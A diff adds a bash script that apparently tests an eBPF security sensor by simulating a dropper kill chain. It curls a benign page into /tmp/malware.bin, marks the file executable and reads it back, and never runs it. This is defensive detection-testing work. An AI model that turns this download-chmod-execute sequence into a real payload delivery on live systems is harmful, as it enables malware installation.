@@ -1,0 +1,27 @@
+#!/usr/bin/env bash
+# Dropper kill-chain simulation (MITRE T1105) for exercising the live
+# eBPF sensor end-to-end — the behavioral equivalent of the reference's
+# attack_chain.sh (reference attack_chain.sh:6-14): a download, a
+# permission change, and a (simulated) execution of the same artifact.
+# Each stage is a separate child process, exactly the per-PID
+# fragmentation the monitor's window coalescing handles.
+#
+# Safe by construction: the "payload" is an HTTP fetch of a benign page,
+# and the "execution" is a read (cat), not an exec of the bytes.
+set -u
+
+STAGE_DIR=${STAGE_DIR:-/tmp}
+PAYLOAD="$STAGE_DIR/malware.bin"
+
+echo "[1/3] ingress tool transfer (curl)"
+curl -s --max-time 10 https://example.com -o "$PAYLOAD" || echo "(offline: writing stub)" > "$PAYLOAD"
+
+sleep 1
+echo "[2/3] permission change (chmod +x)"
+chmod +x "$PAYLOAD"
+
+sleep 1
+echo "[3/3] simulated execution (cat)"
+cat "$PAYLOAD" > /dev/null
+
+echo "kill chain complete: $PAYLOAD"
